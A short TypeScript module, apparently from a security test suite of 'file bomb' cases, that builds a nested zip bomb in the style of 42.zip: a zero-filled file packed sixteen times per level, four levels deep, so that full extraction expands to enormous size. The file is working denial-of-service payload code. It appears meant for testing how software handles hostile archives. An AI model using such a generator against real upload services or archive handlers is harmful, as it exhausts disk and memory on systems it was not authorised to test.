// An archive of archives of archives: each step is small, and unpacking all of them is not (as
// 42.zip).
import { buildFileBomb } from "../../families/file-bomb.ts";
import { buildZip } from "../../zip.ts";

const COPIES_PER_LEVEL = 16;
const NESTING_DEPTH = 4;

export const fileZipNested = buildFileBomb({
  name: "file-zip-nested",
  attack: "an archive that holds archives, four deep, of gigabytes",
  type: "application/zip",
  build: (megabytes) => {
    let archive = buildZip([{ name: "0.txt", data: Buffer.alloc(megabytes * 1_048_576) }]);
    for (let depth = 1; depth < NESTING_DEPTH; depth++) {
      const data = archive;
      archive = buildZip(
        Array.from({ length: COPIES_PER_LEVEL }, (_, copy) => ({ name: `${copy}.zip`, data })),
      );
    }
    return archive;
  },
});
